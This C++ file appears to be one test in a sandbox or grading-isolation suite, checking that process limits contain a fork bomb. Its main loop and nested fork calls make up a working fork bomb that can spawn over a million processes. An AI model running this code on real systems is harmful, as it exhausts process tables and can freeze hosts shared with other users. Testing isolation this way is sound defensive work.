// A fork bomb: every process makes more of itself, for as long as it is let.
//
// After it: no process is left, and the neighbours were graded as ever. The number of processes is limited, and
// all of them end with the run.
#include "attack.h"
#include <sys/wait.h>

int main(int argc, char** argv) {
    attack::begin(argc, argv);
    int made = 0, refused = 0;
    while (refused < 1000 && made < 100000) {
        const pid_t child = fork();
        if (child < 0) ++refused, usleep(100);
        if (child > 0) ++made;
        if (child == 0) {
            for (int i = 0; i < 20; ++i) fork();  // 2^20 of them, where nobody counts
            pause();
        }
    }
    attack::tried(made >= 5000, "start thousands of processes");
}
